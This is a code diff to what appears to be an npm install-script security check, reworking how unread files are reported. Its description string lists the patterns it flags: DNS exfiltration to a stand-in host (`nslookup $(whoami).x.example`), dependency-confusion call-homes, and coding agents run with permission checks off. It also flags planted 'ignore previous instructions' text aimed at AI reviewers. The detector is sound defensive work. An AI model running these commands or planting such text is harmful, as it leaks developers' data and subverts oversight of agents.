@@ -9,7 +9,7 @@ import {
   suspiciousPatterns,
   truncateCommand,
 } from './lib/install-hooks.js';
-import { truncate } from './lib/text.js';
+import { unreadByCap } from './lib/unread-caps.js';
 import { INSTALL_CODE_CAP, installCodeFindings, installCommandFindings, type InstallCodeReading } from './lib/install-code.js';
 
 export default defineCheck({
@@ -26,7 +26,7 @@ export default defineCheck({
     'the files of the tarball a script runs, by their paths in it (`node install.js`, `sh ./setup.sh`, `python build.py`, `node -e "require(\'./x\')"`, `node .` by the `main` of its package.json, through wrappers such as `start /B`, `cmd /c`, `timeout`, `sudo`, runners such as `bun` and `tsx`, and the package.json scripts `npm run x` runs, with node\'s extension lookup), the `binding.gyp` node-gyp reads, with the build files it includes (its `includes`, and the `config.gypi` and `common.gypi` node-gyp adds from its folder) and the commands they run (command expansions `<!(…)`, actions, the compiler `make_global_settings` names), and the local modules and code files they load or run, by relative path or by a path built from their own folder (`path.join(__dirname, \'x.js\')`; up to 64 files: 8 MiB of each file a script names — past its first MiB while the budgets for such bytes last —, judged in overlapping 1 MiB windows, and 1 MiB of each module it loads, 4 MiB of them in all; a loaded JSON file or `.node` addon is data, not code) are read from the tarball and judged too: sending the machine\'s data (hostname, user, network interfaces, the whole environment, credential files — SSH keys, npm tokens, browser, Discord and wallet stores) over the network or in a name looked up in DNS (`nslookup $(whoami).x.example`), talking to a request-catcher or chat-webhook host or to a host named after the package itself (a dependency-confusion call home: `http://${pkg.name}.x.example`), reading credential files, a reverse shell, running `npm publish`, deleting the home folder or running an AI coding agent with its permission checks off (`claude --dangerously-skip-permissions`, `gemini --yolo`, `q chat --trust-all-tools`: the developer\'s own agent told to act unasked) scores 0, holds the verdict and caps the score at ' +
     `${INSTALL_CODE_CAP.limit}, ` +
     'while evaluating decoded or downloaded code (or starting a process with a decoded command line), an obfuscator\'s output or a long encoded blob, a download from a bare IP address or a file-drop host, a detached process that outlives the install, writing to the shell\'s startup files, crontab or login items, writing into the user\'s own folders (Desktop, Documents, Downloads, Pictures, OneDrive), or hiding the name of a process, network or host-data call (spelled in pieces, encoded, or looked up by `Reflect` or a variable: `os[\'host\' + \'name\']()`; the calls are judged with their names made plain), writing where AI coding agents read instructions, skills or tool servers (`.claude/skills`, `.cursor/rules`, `AGENTS.md`, `.mcp.json`…), text addressed to an AI reviewer (`ignore previous instructions`, `this code is legit…`), or a build-file command run for its side effects, its output thrown away or replaced by a constant (`<!(node index.js > /dev/null 2>&1 && echo stub.c)`) scores 10 and holds it (downloading a binary, spawning a compiler and reading environment variables are what installers do, not findings); the package.json commands themselves are read as shell code too, so a command that sends `$(whoami)` to a host or starts an agent unattended is as dangerous as a file doing it. ' +
-    'Unknown, holding the verdict at CAUTION, when the tarball was not read to its end (over a cap: npm extracts all of it), or when a file of that code was read only in part (`truncated`) or not at all (past those caps, or past the 16 files a bundled package\'s commands name; `code-unread`) and what was read holds no finding; a file a script names that the tarball lacks is listed (one that came before the package.json or binding.gyp of the archive that named it, its own or a bundled one, is read on a second download).',
+    'Unknown, holding the verdict at CAUTION, when the tarball was not read to its end (over a cap: npm extracts all of it), or when a file of that code was read only in part (`truncated`) or not at all (past those caps, or past the 16 files a bundled package\'s commands name; `code-unread`, the limit each reached named as load-time-code names it) and what was read holds no finding; a file a script names that the tarball lacks is listed (one that came before the package.json or binding.gyp of the archive that named it, its own or a bundled one, is read on a second download).',
   messages: {
     none: 'No install-time scripts',
     'native-build': 'Builds native code at install ({hooks}): {commands}',
@@ -103,7 +103,8 @@ export default defineCheck({
     // Code it runs that was not read (past the reader's caps on files and bytes: docs/security.md):
     // a clean part read is no answer for the rest, as a truncated file's clean start is none.
     if (code !== null && (code.unread.length > 0 || code.unreadBundled.length > 0)) {
-      const unread = listed([...new Set([...code.unreadBundled, ...code.unread])]);
+      // Grouped by the limit each reached, worded as load-time-code words its own (lib/unread-caps.ts).
+      const unread = unreadByCap([...new Set([...code.unreadBundled, ...code.unread])], code.unreadCauses).join('; ');
       return {
         score: null,
         messageId: 'code-unread',
@@ -119,8 +120,3 @@ export default defineCheck({
   },
 });
 
-/** Files named in a message: the first few, and how many more. */
-function listed(paths: readonly string[]): string {
-  const shown = paths.slice(0, 3).map((path) => truncate(path, 80));
-  return paths.length > shown.length ? `${shown.join(', ')} and ${paths.length - shown.length} more` : shown.join(', ');
-}
